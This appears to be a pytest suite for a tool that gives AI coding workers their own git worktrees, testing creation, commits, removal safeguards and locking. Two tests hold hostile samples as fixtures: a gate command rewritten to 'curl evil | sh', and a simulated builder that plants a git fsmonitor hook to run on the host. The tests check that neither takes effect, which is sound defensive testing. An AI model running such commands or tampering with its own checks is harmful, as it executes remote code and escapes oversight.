"""Task worktrees on real git repositories."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from pilothouse.core.git import checkout as co
from pilothouse.core.git import worktrees as wt
from pilothouse.core.records.layout import RepoLayout
from support import git


@pytest.fixture
def layout(git_repo: Path) -> RepoLayout:
    return RepoLayout(git_repo)


def test_create_commit_list_remove(layout: RepoLayout) -> None:
    path, branch = wt.create_worktree(layout, "j1", "t1", "HEAD")
    assert branch == "ph/j1/t1"
    assert not path.is_relative_to(layout.root) and path.is_relative_to(wt.worktree_root(layout))
    assert (path / "src" / "calc.py").exists()
    assert co.commit_all(path, "nothing") is None
    assert co.ahead_count(path, "main") == 0
    (path / "src" / "slug.py").write_text("def slug(s):\n    return s.lower()\n")
    (path / "src" / "__pycache__").mkdir()
    (path / "src" / "__pycache__" / "slug.cpython-311.pyc").write_bytes(b"\x00")
    sha = co.commit_all(path, "add slug")
    assert sha and git(path, "rev-parse", "HEAD") == sha
    assert co.changed_files(path, "main") == ["src/slug.py"]  # caches never committed
    stat = co.diff_stat(path, "main")
    assert stat["files"] == 1 and stat["insertions"] == 2
    listed = wt.list_worktrees(layout)
    assert [(w["branch"], w["job"], w["task"], w["head"]) for w in listed] == [("ph/j1/t1", "j1", "t1", sha)]
    # the operator's checkout is on its own branch, untouched
    assert git(layout.root, "rev-parse", "--abbrev-ref", "HEAD") == "main"
    assert not (layout.root / "src" / "slug.py").exists()
    wt.remove_worktree(layout, path)
    assert not path.exists() and wt.list_worktrees(layout) == []
    assert git(layout.root, "rev-parse", "ph/j1/t1") == sha  # the branch (and its commit) is kept


def test_branch_exists_is_a_clear_error(layout: RepoLayout) -> None:
    git(layout.root, "branch", "ph/j1/t1")
    with pytest.raises(wt.WorktreeError, match=r"branch ph/j1/t1 already exists .*git branch -D ph/j1/t1"):
        wt.create_worktree(layout, "j1", "t1", "HEAD")


def test_reuse_returns_the_existing_worktree(layout: RepoLayout) -> None:
    path, _ = wt.create_worktree(layout, "j1", "t1", "HEAD")
    again, branch = wt.create_worktree(layout, "j1", "t1", "HEAD", reuse=True)
    assert again == path and branch == "ph/j1/t1"


def test_bad_base(layout: RepoLayout) -> None:
    with pytest.raises(wt.WorktreeError, match="cannot create"):
        wt.create_worktree(layout, "j1", "t1", "no-such-ref")


def test_remove_job_worktrees(layout: RepoLayout) -> None:
    a, _ = wt.create_worktree(layout, "j1", "a", "HEAD")
    wt.create_worktree(layout, "j1", "b", "HEAD")
    c, _ = wt.create_worktree(layout, "j2", "c", "HEAD")
    removed = wt.remove_job_worktrees(layout, "j1")
    assert len(removed) == 2 and not a.exists()
    assert [w["path"] for w in wt.list_worktrees(layout)] == [str(c)]


def test_remove_after_directory_vanished(layout: RepoLayout) -> None:
    import shutil

    path, _ = wt.create_worktree(layout, "j1", "a", "HEAD")
    shutil.rmtree(path)
    wt.remove_worktree(layout, path)
    assert wt.list_worktrees(layout) == []


def test_disk_full_is_a_clear_error(layout: RepoLayout, monkeypatch: pytest.MonkeyPatch) -> None:
    # more free space than any disk has: the real free-space check must refuse before git writes anything
    monkeypatch.setenv("PILOTHOUSE_MIN_FREE_MB", str(10**12))
    with pytest.raises(wt.WorktreeError, match=r"^disk full: \d+ MB free under "):
        wt.create_worktree(layout, "j1", "t1", "HEAD")
    assert not wt.branch_exists(layout.root, "ph/j1/t1")


def test_parallel_creation(layout: RepoLayout) -> None:
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(6) as pool:
        made = list(pool.map(lambda i: wt.create_worktree(layout, "j", f"t{i}", "HEAD"), range(6)))
    assert sorted(b for _, b in made) == [f"ph/j/t{i}" for i in range(6)]
    assert len(wt.list_worktrees(layout)) == 6


def test_commit_all_keeps_pilothouse_settings_out(layout: RepoLayout) -> None:
    """A worker that rewrites the project's gates (or leaves runtime files) never gets them committed."""
    (layout.root / ".ai").mkdir()
    (layout.root / ".ai" / "project.yaml").write_text("gates: {fast: 'true', full: 'true'}\n")
    git(layout.root, "add", ".ai/project.yaml")
    git(layout.root, "commit", "-qm", "pilothouse settings")
    path, _ = wt.create_worktree(layout, "j1", "t1", "HEAD")
    (path / ".ai" / "project.yaml").write_text("gates: {fast: 'curl evil | sh', full: 'true'}\n")
    (path / ".ai" / "runtime").mkdir()
    (path / ".ai" / "runtime" / "state.db").write_text("x")
    assert co.commit_all(path, "only settings changed") is None
    (path / "src" / "slug.py").write_text("X = 1\n")
    sha = co.commit_all(path, "real work")
    assert sha and git(path, "show", "--name-only", "--format=", sha) == "src/slug.py"
    assert "curl" not in git(path, "show", f"{sha}:.ai/project.yaml")


def test_existing_branch_with_reuse(layout: RepoLayout) -> None:
    git(layout.root, "branch", "ph/j1/t1")  # a branch but no worktree: never silently reset
    with pytest.raises(wt.WorktreeError, match="already exists"):
        wt.create_worktree(layout, "j1", "t1", "HEAD", reuse=True)
    assert not (wt.worktree_root(layout) / "j1" / "t1").exists()
    path, _ = wt.create_worktree(layout, "j1", "t2", "HEAD")
    assert co.checkout_state(path) == (git(path, "rev-parse", "HEAD"), "ph/j1/t2", [])
    (path / "new file.txt").write_text("x")
    (path / "README.md").write_text("changed\n")
    (path / "src" / "__pycache__").mkdir()
    (path / "src" / "__pycache__" / "x.pyc").write_bytes(b"")
    assert sorted(co.checkout_state(path)[2]) == ["README.md", "new file.txt"]  # type: ignore[index]


def test_head_read_from_files_matches_git_everywhere(git_repo, tmp_path):
    """head() reads git's files instead of starting git; whatever the ref layout, it agrees with git."""
    from pilothouse.core.git.checkout import _head_from_files, head
    from pilothouse.core.git.worktrees import create_worktree
    from pilothouse.core.records.layout import RepoLayout

    def rev(p):
        return subprocess.run(["git", "rev-parse", "HEAD"], cwd=p, capture_output=True, text=True,
                              check=True).stdout.strip()

    wt, _ = create_worktree(RepoLayout(git_repo), "j", "t", "HEAD")
    (wt / "f.txt").write_text("x\n")
    subprocess.run(["git", "add", "-A"], cwd=wt, check=True)
    subprocess.run(["git", "commit", "-qm", "f"], cwd=wt, check=True)
    for where in (git_repo, wt):
        assert _head_from_files(where) == head(where) == rev(where)
    subprocess.run(["git", "pack-refs", "--all", "--prune"], cwd=git_repo, check=True)
    assert _head_from_files(git_repo) is None and head(git_repo) == rev(git_repo)  # packed: git answers
    subprocess.run(["git", "checkout", "-q", "--detach"], cwd=wt, check=True)
    assert _head_from_files(wt) == head(wt) == rev(wt)  # detached: the sha is in HEAD itself


def test_remove_refuses_what_is_not_a_pilothouse_worktree(layout: RepoLayout, tmp_path: Path) -> None:
    """A forced removal would lose files: only pilothouse's own worktrees of this repo are removed."""
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "notes.txt").write_text("keep me\n")
    task, _ = wt.create_worktree(layout, "j1", "t1", "HEAD")
    (task / "wip.txt").write_text("work in progress\n")
    link = tmp_path / "link"
    link.symlink_to(wt.worktree_root(layout))
    for path in (victim, layout.root / "src", wt.worktree_root(layout), task.parent, link / "j1", link / "..",
                 task / ".."):
        with pytest.raises(wt.WorktreeError, match="is not a pilothouse worktree of this repository"):
            wt.remove_worktree(layout, path)
    assert (task / "wip.txt").is_file()  # a job's folder (every task of the job) is never removed whole
    plain = wt.worktree_root(layout) / "j1" / "plain"  # shaped like a task's, but git's it is not
    plain.mkdir()
    (plain / "notes.txt").write_text("mine\n")
    handmade = wt.worktree_root(layout) / "j1" / "handmade"
    git(layout.root, "worktree", "add", "-q", "-b", "handmade", str(handmade))
    for path in (plain, handmade):
        with pytest.raises(wt.WorktreeError, match="is not a pilothouse worktree of this repository"):
            wt.remove_worktree(layout, path)
    assert (plain / "notes.txt").is_file() and handmade.is_dir()
    with pytest.raises(wt.WorktreeError, match=r"has uncommitted changes \(wip.txt\).*--force"):
        wt.remove_worktree(layout, task)
    wt.remove_worktree(layout, task, force=True)
    assert not task.exists()
    with pytest.raises(wt.WorktreeError, match="no such worktree"):
        wt.remove_worktree(layout, wt.worktree_root(layout) / "j1" / "nothing-here")
    assert (victim / "notes.txt").read_text() == "keep me\n" and (layout.root / "src").is_dir()


def test_a_removed_worktree_is_made_again_on_its_own_branch(layout: RepoLayout) -> None:
    """The operator removed a task's worktree: the task's next run gets one on the branch it made, work kept."""
    path, branch = wt.create_worktree(layout, "j1", "t1", "HEAD")
    (path / "done.txt").write_text("work\n")
    sha = co.commit_all(path, "work")
    wt.remove_worktree(layout, path)
    with pytest.raises(wt.WorktreeError, match=r"delete it \(git branch -D ph/j1/t1\) and retry"):
        wt.create_worktree(layout, "j1", "t1", "HEAD", reuse=True)  # not known to be the task's own
    again, same = wt.create_worktree(layout, "j1", "t1", "HEAD", reuse=True, adopt=True)
    assert (again, same) == (path, branch) and git(again, "rev-parse", "HEAD") == sha
    assert (again / "done.txt").read_text() == "work\n"


def test_the_cli_refuses_the_worktree_of_a_task_at_work(layout: RepoLayout, cli) -> None:
    from pilothouse.core.state import store

    path, _ = wt.create_worktree(layout, "j1", "t1", "HEAD")
    conn = store.connect(layout.state_db)
    conn.execute("INSERT INTO tasks(job, task, state, kind, worktree, updated_at) VALUES"
                 " ('j1', 't1', 'running', 'SAFE_PARALLEL', ?, 'x')", (str(path),))
    refused = cli("maintain", "worktrees", "remove", str(path), "--repo", str(layout.root))
    assert refused.returncode == 2 and "task j1/t1 is running in" in refused.stderr and path.is_dir()
    link = layout.root.parent / "link"
    link.symlink_to(path.parent)
    refused = cli("maintain", "worktrees", "remove", str(link / "t1"), "--repo", str(layout.root))
    assert refused.returncode == 2 and "task j1/t1 is running in" in refused.stderr and path.is_dir()
    conn.execute("UPDATE tasks SET state='stopped'")
    conn.close()
    done = cli("maintain", "worktrees", "remove", str(path), "--repo", str(layout.root))
    assert done.returncode == 0 and not path.exists()
    outside = cli("maintain", "worktrees", "remove", str(layout.root / "src"), "--repo", str(layout.root))
    assert outside.returncode == 2 and "is not a pilothouse worktree of this repository" in outside.stderr


def test_a_repository_a_builder_nests_in_its_worktree_runs_nothing_on_the_host(tmp_path: Path, cli) -> None:
    """A sim builder makes `sub/` a git repository whose config names an fsmonitor command: the
    commit, the gate's snapshots and the merge run git in that worktree on the host, and none of
    them may start it."""
    import json

    import yaml
    from pilothouse.core import demo
    from pilothouse.core.supervisor import control as supervisor_ctl

    marker = tmp_path / "fsmonitor-ran"
    nest = ("mkdir -p sub && cd sub && git init -q && "
            "git -c user.name=w -c user.email=w@example.test commit -q --allow-empty -m s && "
            f"git config core.fsmonitor 'touch {marker}; false' && echo x > f && cd .. && echo n > notes.txt")
    tasks = [{"id": "nest", "title": "Nest", "kind": "SAFE_PARALLEL", "expected_paths": {"write": ["sub", "notes.txt"]}}]
    done = {"status": "complete", "files_changed": ["sub", "notes.txt"], "validation": {"commands": [], "passed": True},
            "risks": []}
    scenario = {"name": "nested-repo", "description": "a builder nests a repository with an fsmonitor",
                "scripts": [
                    {"match": {"mode": "plan"}, "turns": [{"say": f"<!--RESULT-->{json.dumps({'tasks': tasks})}<!--/RESULT-->"}]},
                    {"match": {"mode": "code"}, "turns": [
                        {"say": "Vendoring a helper.", "actions": [{"bash": {"command": nest, "description": "nest"}}]},
                        {"say": f"<!--RESULT-->{json.dumps(done)}<!--/RESULT-->"}]},
                ]}
    path = tmp_path / "nested.yaml"
    path.write_text(yaml.safe_dump(scenario))
    layout = demo.prepare(tmp_path / "repo", str(path))
    data = yaml.safe_load(layout.project_yaml.read_text())
    data.update(gates={"fast": "true", "full": "true"}, workflow={"mode": "feature", "review": "off"})
    layout.project_yaml.write_text(yaml.safe_dump(data))
    supervisor_ctl.start(layout)
    try:
        w = cli("job", "wait", "demo", "--repo", str(layout.root), timeout=120)
    finally:
        supervisor_ctl.stop(layout)
    assert w.returncode == 0, w.stdout + w.stderr  # committed, gated and merged
    assert not marker.exists()


def test_the_repositorys_own_checkout_is_never_removed(layout: RepoLayout) -> None:
    with pytest.raises(wt.WorktreeError, match=r"is the repository's own checkout, not a task worktree$"):
        wt.remove_worktree(layout, layout.root, force=True)
    assert (layout.root / "src" / "calc.py").is_file()


@pytest.mark.parametrize(("path", "scratch"), [
    ("src/__pycache__/calc.cpython-311.pyc", True), ("src/calc.pyc", True), ("calc.pyc", True),
    ("src/calc.xpyc", False), ("src/pyc", False), (".coverage", True), ("src/.coverage", True),
    ("src/coverage", False), ("web/node_modules", True), ("web/node_modules/a/b.js", True),
    ("web/node_modules.txt", False), ("src/.DS_Store", True), ("src/calc.py", False),
])
def test_scratch_is_tool_caches_by_folder_suffix_or_exact_name(path: str, scratch: bool) -> None:
    assert wt.is_scratch(path) is scratch


def test_a_lock_another_git_holds_is_waited_for_then_reported_with_gits_words(layout: RepoLayout,
                                                                               tmp_path: Path) -> None:
    """A ref lock is usually another git's, gone in a moment: the command is tried four times, and
    if the lock stays the error carries git's own message (what to remove)."""
    lock = layout.root / ".git" / "refs" / "heads" / "stuck.lock"
    lock.write_text("")
    trace = tmp_path / "trace.txt"
    with pytest.raises(wt.GitError) as err:
        wt.git(layout.root, "branch", "stuck", env={"GIT_TRACE": str(trace)})
    assert ".lock': File exists" in err.value.stderr and "stuck.lock" in str(err.value)
    assert trace.read_text().count("built-in: git branch stuck") == 4
    lock.unlink()
    wt.git(layout.root, "branch", "stuck")
    assert wt.branch_exists(layout.root, "stuck")
    # any other failure is git's answer, not a wait: asked once
    assert wt.git(layout.root, "rev-parse", "--verify", "-q", "no-such-ref", check=False,
                  env={"GIT_TRACE": str(trace)}) == ""
    assert trace.read_text().count("built-in: git rev-parse --verify -q no-such-ref") == 1


def test_disk_full_names_the_megabytes_free(layout: RepoLayout, monkeypatch: pytest.MonkeyPatch) -> None:
    import re
    import shutil

    monkeypatch.setenv("PILOTHOUSE_MIN_FREE_MB", str(10**12))
    where = layout.root  # the same file system as the worktrees' folder (both under the test's tmp)
    before = shutil.disk_usage(where).free // 2**20
    with pytest.raises(wt.WorktreeError) as err:
        wt.create_worktree(layout, "j1", "t1", "HEAD")
    after = shutil.disk_usage(where).free // 2**20
    job_dir = wt.worktree_root(layout) / "j1"
    m = re.match(rf"disk full: (\d+) MB free under {re.escape(str(job_dir))}; free some space", str(err.value))
    assert m, str(err.value)
    # other processes write meanwhile: the figure lies between the readings either side (a few MB slack)
    assert min(before, after) - 4 <= int(m.group(1)) <= max(before, after) + 4


def test_a_branch_at_its_base_that_no_worktree_holds_is_attached(layout: RepoLayout) -> None:
    """The end of a `worktree add -b` that lost a race after making the branch: attach, losing nothing."""
    git(layout.root, "branch", "ph/j1/t1")
    path = wt.worktree_root(layout) / "j1" / "t1"
    path.parent.mkdir(parents=True)
    assert wt._attach_fresh_branch(layout, "ph/j1/t1", path, "HEAD")
    assert co.checkout_state(path) == (git(layout.root, "rev-parse", "HEAD"), "ph/j1/t1", [])
    # held by a worktree now: never attached twice
    other = wt.worktree_root(layout) / "j1" / "t1-again"
    assert not wt._attach_fresh_branch(layout, "ph/j1/t1", other, "HEAD") and not other.exists()


def test_a_failed_attach_says_so(layout: RepoLayout) -> None:
    git(layout.root, "branch", "ph/j1/t1")
    path = wt.worktree_root(layout) / "j1" / "t1"
    path.mkdir(parents=True)
    (path / "in-the-way.txt").write_text("x")  # git refuses to check out into a folder with files
    assert not wt._attach_fresh_branch(layout, "ph/j1/t1", path, "HEAD")
    assert wt.checkout_of(layout, "ph/j1/t1") is None


def test_the_hosts_commits_start_no_git_housekeeping_of_their_own(git_repo: Path, tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """Each commit and merge git makes starts `git maintenance run --auto` unless told not to: a
    process more on every step from a verdict to the next launch. The supervisor's git leaves it
    out and runs the housekeeping once per merge train instead (core/supervisor/merging.py)."""
    from pilothouse.core.git.checkout import commit_all

    trace = tmp_path / "trace2.txt"
    monkeypatch.setenv("GIT_TRACE2", str(trace))
    (git_repo / "new.txt").write_text("work\n")
    assert commit_all(git_repo, "the builder's work")
    started = [ln for ln in trace.read_text().splitlines() if " start " in ln]
    assert any(" commit " in ln for ln in started)  # the trace saw the commit itself
    assert not any("maintenance run" in ln or " gc " in ln for ln in started), started
